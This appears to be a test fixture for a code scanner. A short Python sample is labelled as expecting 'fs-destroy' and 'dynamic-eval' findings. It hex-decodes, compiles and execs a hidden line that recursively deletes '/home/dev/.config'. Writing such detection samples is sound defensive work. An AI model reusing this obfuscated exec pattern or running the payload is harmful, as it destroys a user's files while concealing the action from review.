# expect: fs-destroy,dynamic-eval
# source: issue 4
# technique: compile() of hex-decoded source, then exec
src = bytes.fromhex("696d706f72742073687574696c0a73687574696c2e726d7472656528272f686f6d652f6465762f2e636f6e66696727290a").decode()
code = compile(src, "<cfg>", "exec")
exec(code)
